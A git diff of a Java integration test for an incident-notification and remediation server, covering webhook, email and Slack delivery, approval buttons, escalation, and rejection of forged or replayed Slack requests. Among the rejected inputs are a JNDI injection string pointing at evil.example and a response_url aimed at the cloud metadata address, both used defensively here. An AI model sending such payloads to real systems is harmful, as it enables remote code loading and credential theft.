@@ -3,45 +3,147 @@ package io.firewatch.server;
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.awaitility.Awaitility.await;
 
+import com.icegreen.greenmail.util.GreenMail;
+import com.icegreen.greenmail.util.ServerSetup;
 import com.sun.net.httpserver.HttpServer;
+import io.firewatch.integrations.slack.SlackSignature;
+import io.firewatch.remediation.execution.AllowList;
+import io.firewatch.remediation.execution.Executors;
+import io.firewatch.remediation.execution.GuardedExecutor;
+import io.firewatch.remediation.execution.Limits;
+import io.firewatch.remediation.execution.mock.Behaviour;
+import io.firewatch.remediation.execution.mock.Behaviour.Ending;
+import io.firewatch.remediation.execution.mock.MockPlatform;
+import io.firewatch.server.security.Accounts;
+import io.firewatch.server.security.Role;
 import io.firewatch.server.testing.Http;
+import io.firewatch.server.testing.SlackStub;
+import io.firewatch.server.wiring.PlatformWiring;
+import jakarta.mail.internet.MimeMessage;
 import java.io.IOException;
 import java.net.InetAddress;
 import java.net.InetSocketAddress;
 import java.net.URI;
+import java.net.URLEncoder;
+import java.net.http.HttpClient;
+import java.net.http.HttpRequest;
+import java.net.http.HttpRequest.BodyPublishers;
+import java.net.http.HttpResponse;
+import java.net.http.HttpResponse.BodyHandlers;
 import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
 import java.nio.file.Path;
 import java.time.Duration;
 import java.time.Instant;
+import java.util.ArrayList;
 import java.util.List;
+import java.util.Optional;
 import java.util.concurrent.CopyOnWriteArrayList;
+import java.util.stream.Stream;
 import org.junit.jupiter.api.AfterAll;
 import org.junit.jupiter.api.BeforeAll;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
+import org.springframework.boot.builder.SpringApplicationBuilder;
 import org.springframework.context.ConfigurableApplicationContext;
+import org.springframework.context.annotation.Bean;
+import org.springframework.context.annotation.Primary;
 import org.springframework.context.support.GenericApplicationContext;
 import tools.jackson.databind.JsonNode;
 import tools.jackson.databind.json.JsonMapper;
 
-/** From an alert to what a receiver is told, with everything real between. */
+/** From an alert to what people are told of it until its end, with everything real between. */
 final class NotificationIT {
   private static final String ADMIN_KEY = "the-admin-key";
+  private static final String SECRET = "slack-signing-secret";
+  private static final Instant STARTED = Instant.now();
+  private static final Duration PATIENCE = Duration.ofSeconds(40);
+  private static final List<String> SERVICES = List.of("mended-api", "hopeless-api", "clicked-api");
   private static final List<Told> TOLD = new CopyOnWriteArrayList<>();
+  private static final GreenMail MAIL = new GreenMail(ServerSetup.SMTP.dynamicPort());
+  private static final MockPlatform PLATFORM = new MockPlatform(latency -> {});
+
+  private static final String DIRECTORY =
+      """
+      people:
+        - {id: ann, name: Ann, slack_id: UANN}
+        - {id: vic, name: Vic, slack_id: UVIC}
+        - {id: ghost, name: Somebody without an account, slack_id: UGHOST}
+      severities:
+        critical: {tell: [on_call, team, management]}
+        high: {tell: [on_call, team]}
+      otherwise:
+        on_call: {}
+        team: {slack: default}
+        management: {}
+        everything: {webhook: default, stdout: default}
+      """;
 
   @TempDir static Path home = Path.of("");
 
   private static ConfigurableApplicationContext server = new GenericApplicationContext();
   private static Http http = Http.admin(0);
+  private static List<SlackStub> slack = List.of();
 
+  /** What the webhook was sent. */
   private record Told(Instant at, String id, JsonNode body) {
     String kind() {
       return body.path("message").path("head").path("kind").asString();
+    }
+
+    String incident() {
+      return body.path("incident_id").asString();
+    }
+  }
+
+  /** Acts on targets of this test. */
+  static class TestBeans {
+    @Bean
+    @Primary
+    Executors testExecutors() {
+      return new Executors(
+          List.of(new GuardedExecutor(PLATFORM, new Limits(AllowList.of(SERVICES), false))));
     }
   }
 
   @BeforeAll
   static void startServer() throws IOException {
+    MAIL.start();
+    slack = List.of(new SlackStub());
+    StringBuilder catalogue = new StringBuilder("services:\n");
+    SERVICES.forEach(service -> catalogue.append(entry(service)));
+    Files.writeString(home.resolve("catalogue.yaml"), catalogue);
+    Files.writeString(home.resolve("directory.yaml"), DIRECTORY);
+    server =
+        new SpringApplicationBuilder(FirewatchServer.class, PlatformWiring.class, TestBeans.class)
+            .run(
+                "--firewatch.home=" + home,
+                "--firewatch.admin-key=" + ADMIN_KEY,
+                "--firewatch.http.port=0",
+                "--firewatch.resolution.interval=1s",
+                "--firewatch.remediation.watch.interval=300ms",
+                "--firewatch.remediation.watch.within=2m",
+                "--firewatch.notification.per-minute=500",
+                "--firewatch.notification.email.host=127.0.0.1",
+                "--firewatch.notification.email.port=" + MAIL.getSmtp().getPort(),
+                "--firewatch.notification.email.on-call=on-call@example.org",
+                "--firewatch.notification.email.team=team@example.org",
+                "--firewatch.notification.email.management=boss@example.org",
+                "--firewatch.notification.slack-app.api=" + slack.getFirst().url(),
+                "--firewatch.notification.slack-app.token=xoxb-test",
+                "--firewatch.notification.slack-app.room=#incidents",
+                "--firewatch.notification.slack-app.signing-secret=" + SECRET,
+                "--firewatch.notification.webhook.url=http://127.0.0.1:" + webhook(),
+                "--firewatch.notification.webhook.secret="
+                    + "whsec_MDEyMzQ1Njc4OTAxMjM0NTY3ODkwMTIzNDU2Nzg5MDE=");
+    http = new Http(URI.create(FirewatchServer.url(server)).getPort(), ADMIN_KEY);
+    Accounts accounts = server.getBean(Accounts.class);
+    accounts.create(new Accounts.User("ann", "{noop}x", Role.APPROVER));
+    accounts.create(new Accounts.User("vic", "{noop}x", Role.VIEWER));
+  }
+
+  /** The first try of each but the very first fails, so that it takes another to arrive. */
+  private static int webhook() throws IOException {
     HttpServer receiver =
         HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
     receiver.createContext(
@@ -49,84 +151,385 @@ final class NotificationIT {
         exchange -> {
           String body =
               new String(exchange.getRequestBody().readAllBytes(), StandardCharsets.UTF_8);
-          TOLD.add(
+          Told told =
               new Told(
                   Instant.now(),
                   exchange.getRequestHeaders().getFirst("webhook-id"),
-                  JsonMapper.shared().readTree(body)));
-          // The first try of each fails, so that it takes another to arrive.
-          boolean isFirst =
-              TOLD.stream().filter(t -> t.id().equals(TOLD.getLast().id())).count() == 1;
+                  JsonMapper.shared().readTree(body));
+          boolean isFirst = TOLD.stream().noneMatch(one -> one.id().equals(told.id()));
+          TOLD.add(told);
           exchange.sendResponseHeaders(isFirst && TOLD.size() > 1 ? 503 : 200, -1);
           exchange.close();
         });
     receiver.start();
-    server =
-        FirewatchServer.start(
-            "--firewatch.home=" + home,
-            "--firewatch.admin-key=" + ADMIN_KEY,
-            "--firewatch.http.port=0",
-            "--firewatch.notification.webhook.url=http://127.0.0.1:"
-                + receiver.getAddress().getPort(),
-            "--firewatch.notification.webhook.secret="
-                + "whsec_MDEyMzQ1Njc4OTAxMjM0NTY3ODkwMTIzNDU2Nzg5MDE=");
-    http = new Http(URI.create(FirewatchServer.url(server)).getPort(), ADMIN_KEY);
+    return receiver.getAddress().getPort();
+  }
+
+  private static String entry(String service) {
+    return """
+      - name: %1$s
+        criticality: P1
+        actions:
+          undo-deployment: {executor: mock, action: scale, resource: %1$s, parameters: {replicas: 1}}
+          restart: {executor: mock, action: restart, resource: %1$s}
+          scale-out: {executor: mock, action: scale, resource: %1$s, parameters: {replicas: 4}}
+          turn-off-flag: {executor: mock, action: scale, resource: %1$s, parameters: {replicas: 3}}
+    """
+        .formatted(service);
   }
 
   @AfterAll
   static void stopServer() {
     server.close();
+    MAIL.stop();
+    slack.forEach(SlackStub::close);
   }
 
   @Test
-  void an_incident_is_told_within_two_seconds_and_its_end_to_who_heard_its_beginning()
-      throws Exception {
-    Instant sent = Instant.now();
-    alert(sent, "critical", "told-api");
-    await().atMost(Duration.ofSeconds(20)).until(() -> kinds().contains("INCIDENT_OPENED"));
-    Told first = TOLD.getFirst();
-    assertThat(first.kind()).isEqualTo("INCIDENT_OPENED");
-    String incident = first.body().path("incident_id").asString();
+  void the_first_page_takes_less_than_two_seconds_and_every_try_has_the_same_id() throws Exception {
+    alert("told-api", "firing", "critical");
+    String incident = incident("told-api");
+    await().atMost(PATIENCE).until(() -> kinds(incident).contains("INCIDENT_OPENED"));
+    Told first = of(incident).getFirst();
     Instant opened =
         Instant.parse(
             Http.json(http.get("/api/incidents/" + incident)).path("opened_at").asString());
     assertThat(Duration.between(opened, first.at())).isLessThan(Duration.ofSeconds(2));
-
     http.post("/api/incidents/" + incident + "/resolve", "{\"note\":\"done\"}");
     await()
-        .atMost(Duration.ofSeconds(20))
-        .until(() -> kinds().stream().filter("INCIDENT_RESOLVED"::equals).count() == 2);
-    assertThat(TOLD.stream().filter(t -> t.kind().equals("INCIDENT_RESOLVED")).map(Told::id))
-        .hasSize(2)
-        .containsOnly(TOLD.getLast().id());
+        .atMost(PATIENCE)
+        .until(() -> kinds(incident).stream().filter("INCIDENT_RESOLVED"::equals).count() == 2);
+    assertThat(
+            of(incident).stream()
+                .filter(told -> told.kind().equals("INCIDENT_RESOLVED"))
+                .map(Told::id)
+                .distinct())
+        .hasSize(1);
   }
 
   @Test
   void what_is_not_severe_is_not_told() throws Exception {
-    alert(Instant.now(), "info", "quiet-api");
-    await()
-        .atMost(Duration.ofSeconds(20))
-        .until(
-            () -> !Http.json(http.get("/api/incidents?service=quiet-api")).path("items").isEmpty());
-    alert(Instant.now(), "critical", "loud-api");
-    await()
-        .atMost(Duration.ofSeconds(20))
-        .until(() -> TOLD.stream().anyMatch(t -> t.body().toString().contains("loud-api")));
-    assertThat(TOLD).noneMatch(t -> t.body().toString().contains("quiet-api"));
+    alert("quiet-api", "firing", "info");
+    String quiet = incident("quiet-api");
+    alert("loud-api", "firing", "critical");
+    String loud = incident("loud-api");
+    await().atMost(PATIENCE).until(() -> kinds(loud).contains("INCIDENT_OPENED"));
+    assertThat(of(quiet)).isEmpty();
   }
 
-  private static List<String> kinds() {
-    return TOLD.stream().map(Told::kind).toList();
+  @Test
+  void everything_about_an_incident_is_told_in_order_once_and_to_the_same_people()
+      throws Exception {
+    String incident = breakIt("mended-api");
+    JsonNode approve = question(incident);
+    assertThat(approve.path("action_id").asString()).isEqualTo("approve");
+    assertThat(click("UANN", "approve", approve.path("value").asString()).statusCode())
+        .isEqualTo(200);
+    await()
+        .atMost(PATIENCE)
+        .untilAsserted(() -> assertThat(status(incident)).isEqualTo("VERIFYING"));
+    alert("mended-api", "resolved", "critical");
+    await().atMost(PATIENCE).until(() -> kinds(incident).contains("POSTMORTEM_READY"));
+    await()
+        .atMost(PATIENCE)
+        .untilAsserted(() ->
+            assertThat(subjects("on-call@example.org", incident))
+                .anyMatch(s -> s.contains("review")));
+
+    List<String> told = kinds(incident).stream().distinct().toList();
+    assertThat(told)
+        .containsSubsequence(
+            "INCIDENT_OPENED",
+            "RCA_AVAILABLE",
+            "REMEDIATION_PLAN",
+            "APPROVAL_NEEDED",
+            "APPROVAL_ANSWERED")
+        .contains("EXECUTION_RESULT", "INCIDENT_RESOLVED", "POSTMORTEM_READY");
+    assertThat(told.indexOf("POSTMORTEM_READY")).isGreaterThan(told.indexOf("INCIDENT_RESOLVED"));
+    List<String> kinds = mailed("on-call@example.org", incident);
+    assertThat(kinds)
+        .doesNotHaveDuplicates()
+        .containsSubsequence(
+            "incident_opened", "rca_available", "remediation_plan", "approval_needed")
+        .contains("approval_answered", "execution_result", "incident_resolved", "postmortem_ready");
+    assertThat(mailed("boss@example.org", incident))
+        .containsExactlyInAnyOrder("incident_opened", "incident_resolved", "postmortem_ready");
+    assertThat(approvedBy(approve)).isEqualTo("user:ann");
+
+    // One message in the room, kept up to date; the rest in its thread; the buttons are gone.
+    List<SlackStub.Call> posts =
+        slack.getFirst().calls("chat.postMessage").stream()
+            .filter(call -> call.body().toString().contains(incident))
+            .toList();
+    assertThat(posts.getFirst().body().path("channel").asString()).isEqualTo("#incidents");
+    assertThat(posts.getFirst().body().has("thread_ts")).isFalse();
+    assertThat(posts.subList(1, posts.size()))
+        .allMatch(call -> call.body().path("thread_ts").asString().equals(posts.getFirst().ts()))
+        .allMatch(call -> call.authorization().equals("Bearer xoxb-test"));
+    SlackStub.Call asked =
+        posts.stream().filter(c -> c.body().toString().contains("\"actions\"")).findFirst().get();
+    List<SlackStub.Call> updates = slack.getFirst().calls("chat.update");
+    assertThat(updates)
+        .anyMatch(c ->
+            c.body().path("ts").asString().equals(posts.getFirst().ts())
+                && c.body().toString().contains("Resolved"));
+    assertThat(updates)
+        .anyMatch(c ->
+            c.body().path("ts").asString().equals(asked.ts())
+                && c.body().toString().contains("Approved by ann"))
+        .noneMatch(c ->
+            c.body().path("ts").asString().equals(asked.ts())
+                && c.body().toString().contains("\"action_id\""));
   }
 
-  private static void alert(Instant at, String severity, String service) throws Exception {
-    http.post(
+  @Test
+  void a_plan_that_fails_calls_a_person() throws Exception {
+    PLATFORM.nextActs(
+        "hopeless-api",
+        Behaviour.of(Ending.FAILS),
+        Behaviour.of(Ending.MAKES_IT_WORSE),
+        Behaviour.of(Ending.SUCCEEDS_IN_PART));
+    String incident = breakIt("hopeless-api");
+    for (int round = 1; round <= 3; round++) {
+      String value = question(incident).path("value").asString();
+      assertThat(click("UANN", "approve", value).statusCode()).isEqualTo(200);
+      await()
+          .atMost(PATIENCE)
+          .until(() -> !approval(value).path("state").asString().equals("WAITING"));
+      await()
+          .atMost(Duration.ofSeconds(90))
+          .until(() ->
+              status(incident).equals("FAILED")
+                  || waiting(incident).filter(one -> !one.equals(value)).isPresent());
+    }
+    await().atMost(PATIENCE).until(() -> kinds(incident).contains("ESCALATION"));
+    Told escalation =
+        of(incident).stream().filter(t -> t.kind().equals("ESCALATION")).findFirst().orElseThrow();
+    assertThat(escalation.body().toString()).contains("A person has to go on");
+    await()
+        .atMost(PATIENCE)
+        .untilAsserted(
+            () -> assertThat(mailed("on-call@example.org", incident)).contains("escalation"));
+  }
+
+  @Test
+  void only_the_right_click_counts_and_the_wrong_ones_are_audited() throws Exception {
+    String incident = breakIt("clicked-api");
+    String value = question(incident).path("value").asString();
+    String body = body("UANN", "approve", value);
+    String now = String.valueOf(Instant.now().getEpochSecond());
+    String old = String.valueOf(Instant.now().minusSeconds(301).getEpochSecond());
+    SlackSignature right = new SlackSignature(SECRET);
+    byte[] bytes = body.getBytes(StandardCharsets.UTF_8);
+
+    assertThat(send(body, now, "").statusCode()).isEqualTo(401);
+    assertThat(send(body, now, new SlackSignature("wrong").sign(now, bytes)).statusCode())
+        .isEqualTo(401);
+    assertThat(send(body, old, right.sign(old, bytes)).statusCode()).isEqualTo(401);
+    assertThat(send(body + "&x=1", now, right.sign(now, bytes)).statusCode()).isEqualTo(401);
+    // Signed, but none that we ask for.
+    for (String other :
+        List.of(
+            "payload=%7B",
+            "payload=",
+            "",
+            "payload=" + encoded("[]"),
+            body("UANN", "approve", "x"),
+            body("UANN", "approve", value.replace(':', ';')),
+            body("UANN", "delete", value),
+            body("<@UANN>", "approve", value),
+            body("UANN", "approve", "${jndi:ldap://evil.example/a}"))) {
+      String signed = right.sign(now, other.getBytes(StandardCharsets.UTF_8));
+      assertThat(send(other, now, signed).statusCode()).as(other).isEqualTo(400);
+    }
+    // Understood, but not allowed, or for another plan.
+    for (String user : List.of("USTRANGER", "UVIC", "UGHOST")) {
+      assertThat(click(user, "approve", value).statusCode()).isEqualTo(200);
+      await()
+          .atMost(PATIENCE)
+          .untilAsserted(() ->
+              assertThat(slack.getFirst().calls("chat.postEphemeral"))
+                  .anyMatch(c ->
+                      c.body().path("user").asString().equals(user)
+                          && c.body().path("text").asString().contains("Nothing was done")));
+    }
+    assertThat(click("UANN", "approve", value.substring(0, 37) + "0".repeat(64)).statusCode())
+        .isEqualTo(200);
+    assertThat(approval(value).path("state").asString()).isEqualTo("WAITING");
+    assertThat(PLATFORM.mutations("clicked-api")).isZero();
+
+    assertThat(send(body, now, right.sign(now, bytes)).statusCode()).isEqualTo(200);
+    assertThat(send(body, now, right.sign(now, bytes)).statusCode()).as("replay").isEqualTo(401);
+    await().atMost(PATIENCE).until(() -> PLATFORM.mutations("clicked-api") == 1);
+    await()
+        .atMost(PATIENCE)
+        .untilAsserted(() -> {
+          String audit = http.get("/api/audit?limit=200").body();
+          assertThat(audit)
+              .contains("slack:USTRANGER", "user:vic", "OTHER_PLAN")
+              .contains("/slack/actions unsigned", "/slack/actions stale")
+              .contains("/slack/actions forged", "/slack/actions replayed");
+          assertThat(Http.json(http.get("/api/audit/verify")).path("sound").asBoolean()).isTrue();
+        });
+  }
+
+  // What is done to the server.
+
+  private static String breakIt(String service) throws Exception {
+    post(
+        "/context/deploys",
+        "{\"service\":\"%s\",\"commit\":\"abc\",\"version\":\"v2\",\"when\":\"%s\"}"
+            .formatted(service, Instant.now().minusSeconds(180)));
+    for (int i = 0; i < 10; i++) {
+      post(
+          "/context/logs",
+          "{\"service\":\"%s\",\"level\":\"ERROR\",\"message\":\"no field %d\",\"when\":\"%s\"}"
+              .formatted(service, i, Instant.now()));
+    }
+    alert(service, "firing", "critical");
+    return incident(service);
+  }
+
+  private static void alert(String service, String status, String severity) throws Exception {
+    post(
         "/alerts",
         """
-        {"version":"4","status":"firing","alerts":[{"status":"firing","labels":{"alertname":"Down",
-         "service":"%s","severity":"%s"},"annotations":{},"startsAt":"%s",
-         "endsAt":"0001-01-01T00:00:00Z","fingerprint":"%s"}]}
+        {"version":"4","status":"%1$s","alerts":[{"status":"%1$s","labels":{"alertname":"Errors",
+         "service":"%2$s","severity":"%3$s"},"annotations":{},
+         "startsAt":"%4$s","endsAt":"0001-01-01T00:00:00Z","fingerprint":"%2$s"}]}
         """
-            .formatted(service, severity, at, service));
+            .formatted(status, service, severity, STARTED));
+  }
+
+  private static void post(String path, String json) {
+    await()
+        .atMost(PATIENCE)
+        .untilAsserted(() -> assertThat(http.post(path, json).statusCode()).isIn(200, 202));
+  }
+
+  private static HttpResponse<String> click(String user, String action, String value)
+      throws Exception {
+    String body = body(user, action, value);
+    String now = String.valueOf(Instant.now().getEpochSecond());
+    return send(
+        body, now, new SlackSignature(SECRET).sign(now, body.getBytes(StandardCharsets.UTF_8)));
+  }
+
+  private static String body(String user, String action, String value) {
+    String payload =
+        """
+        {"type":"block_actions","user":{"id":"%s"},"channel":{"id":"C1"},\
+        "response_url":"http://169.254.169.254/","actions":[{"action_id":"%s","value":"%s"}]}\
+        """
+            .formatted(user, action, value);
+    return "payload=" + encoded(payload);
+  }
+
+  private static String encoded(String text) {
+    return URLEncoder.encode(text, StandardCharsets.UTF_8);
+  }
+
+  private static HttpResponse<String> send(String body, String timestamp, String signature)
+      throws Exception {
+    HttpRequest request =
+        HttpRequest.newBuilder(URI.create(FirewatchServer.url(server) + "/slack/actions"))
+            .header("Content-Type", "application/x-www-form-urlencoded")
+            .header("X-Slack-Request-Timestamp", timestamp)
+            .header("X-Slack-Signature", signature)
+            .POST(BodyPublishers.ofString(body))
+            .build();
+    try (HttpClient client = HttpClient.newHttpClient()) {
+      return client.send(request, BodyHandlers.ofString());
+    }
+  }
+
+  // What came of it.
+
+  private static String incident(String service) throws Exception {
+    await()
+        .atMost(PATIENCE)
+        .until(() ->
+            Http.json(http.get("/api/incidents?service=" + service)).path("items").size() == 1);
+    JsonNode items = Http.json(http.get("/api/incidents?service=" + service)).path("items");
+    return items.get(0).path("id").asString();
+  }
+
+  private static String status(String incident) throws Exception {
+    return Http.json(http.get("/api/incidents/" + incident)).path("status").asString();
+  }
+
+  private static JsonNode approval(String value) throws Exception {
+    return Http.json(http.get("/api/approvals/" + value.substring(0, 36)));
+  }
+
+  private static String approvedBy(JsonNode button) throws Exception {
+    return approval(button.path("value").asString()).path("votes").get(0).path("by").asString();
+  }
+
+  /** What the buttons of the question that waits say, as far as there is one. */
+  private static Optional<String> waiting(String incident) throws Exception {
+    for (JsonNode item : Http.json(http.get("/api/approvals")).path("items")) {
+      if (item.path("incident_id").asString().equals(incident)) {
+        return Optional.of(item.path("id").asString() + ":" + item.path("plan_hash").asString());
+      }
+    }
+    return Optional.empty();
+  }
+
+  /** The Approve button in Slack of the question that waits. */
+  private static JsonNode question(String incident) {
+    List<JsonNode> found = new ArrayList<>();
+    await()
+        .atMost(PATIENCE)
+        .untilAsserted(() -> {
+          String value = waiting(incident).orElse("none yet");
+          found.clear();
+          for (SlackStub.Call call : slack.getFirst().calls("chat.postMessage")) {
+            call.body()
+                .findParents("action_id")
+                .forEach(button -> {
+                  if (button.path("value").asString().equals(value)) {
+                    found.add(button);
+                  }
+                });
+          }
+          assertThat(found).hasSize(2);
+        });
+    return found.getFirst();
+  }
+
+  private static List<Told> of(String incident) {
+    return TOLD.stream().filter(told -> told.incident().equals(incident)).toList();
+  }
+
+  private static List<String> kinds(String incident) {
+    return of(incident).stream().map(Told::kind).toList();
+  }
+
+  private static List<String> mailed(String address, String incident) throws Exception {
+    List<String> kinds = new ArrayList<>();
+    for (MimeMessage mail : mails(address, incident)) {
+      kinds.add(mail.getHeader("X-Firewatch-Kind", null));
+    }
+    return kinds;
+  }
+
+  private static List<String> subjects(String address, String incident) throws Exception {
+    List<String> subjects = new ArrayList<>();
+    for (MimeMessage mail : mails(address, incident)) {
+      subjects.add(mail.getSubject());
+    }
+    return subjects;
+  }
+
+  private static List<MimeMessage> mails(String address, String incident) throws Exception {
+    List<MimeMessage> found = new ArrayList<>();
+    for (MimeMessage mail : MAIL.getReceivedMessages()) {
+      if (incident.equals(mail.getHeader("X-Firewatch-Incident", null))
+          && Stream.of(mail.getAllRecipients()).anyMatch(to -> to.toString().equals(address))) {
+        found.add(mail);
+      }
+    }
+    return found;
   }
 }
